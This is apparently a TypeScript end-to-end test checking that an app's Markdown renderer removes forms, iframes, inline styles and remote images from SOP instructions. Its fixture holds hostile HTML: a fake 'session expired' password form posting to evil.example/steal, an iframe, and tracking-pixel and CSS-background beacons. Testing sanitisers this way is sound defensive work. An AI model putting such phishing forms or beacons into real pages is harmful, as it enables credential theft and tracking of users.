import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { importSop } from '../../server/start.ts'
import { createUser, launch, signIn } from './harness.ts'

let h: Awaited<ReturnType<typeof launch>>
beforeAll(async () => {
  h = await launch()
})
afterAll(async () => h?.close())

const HOSTILE = [
  'Check the **order number**.',
  '',
  '<form action="https://evil.example/steal"><p>Session expired: re-enter your password</p>',
  '<input name="password" type="password"><select><option>x</option></select>',
  '<textarea>notes</textarea><button type="submit">Sign in again</button></form>',
  '',
  '<iframe src="https://evil.example/frame"></iframe>',
  '',
  '![tracking pixel](https://evil.example/pixel.png)',
  '',
  '<img src="//evil.example/protocol-relative.png" alt="relative">',
  '<img src="/favicon.ico" alt="our icon">',
  '<p style="background:url(https://evil.example/bg.png)">styled</p>',
].join('\n')

describe('SOP instructions in Markdown', () => {
  it('render text and links but no forms, frames or remote images, and fetch nothing remote', async () => {
    const doc = JSON.parse(
      readFileSync(join(import.meta.dirname, '..', 'fixtures', 'support-ticket.json'), 'utf8'),
    )
    doc.id = 'hostile-markdown'
    doc.steps[0].instructions = HOSTILE
    const admin = (await h.server.storage.listUsers())[0]
    await importSop(h.server.storage, doc, admin.id, new Date().toISOString())

    const { page } = h
    const remote: string[] = []
    page.on('request', (r) => {
      if (!r.url().startsWith(h.server.url)) remote.push(r.url())
    })
    const owner = await createUser(h.server.url, h.adminToken, 'Olga Owner', 'owner')
    await signIn(page, owner, '#/designer/hostile-markdown/print')
    const md = page.locator('.markdown', { hasText: 'order number' }).first()
    await md.waitFor()
    await h.shot('markdown-hostile')

    expect(await md.locator('strong').textContent()).toBe('order number')
    // The words stay readable; the controls are gone.
    expect(await md.textContent()).toContain('re-enter your password')
    for (const tag of ['form', 'input', 'select', 'option', 'textarea', 'button', 'iframe']) {
      expect({ tag, count: await md.locator(tag).count() }).toEqual({ tag, count: 0 })
    }
    // Remote images become links to them; a same-origin image stays.
    const images = await md.locator('img').evaluateAll((els) => els.map((e) => e.getAttribute('src')))
    expect(images).toEqual(['/favicon.ico'])
    const links = await md
      .locator('a')
      .evaluateAll((els) => els.map((e) => [e.textContent, e.getAttribute('href')]))
    expect(links).toEqual([
      ['tracking pixel', 'https://evil.example/pixel.png'],
      ['relative', '//evil.example/protocol-relative.png'],
    ])
    expect(await md.locator('[style]').count()).toBe(0)
    expect(remote).toEqual([])
  }, 60_000)
})
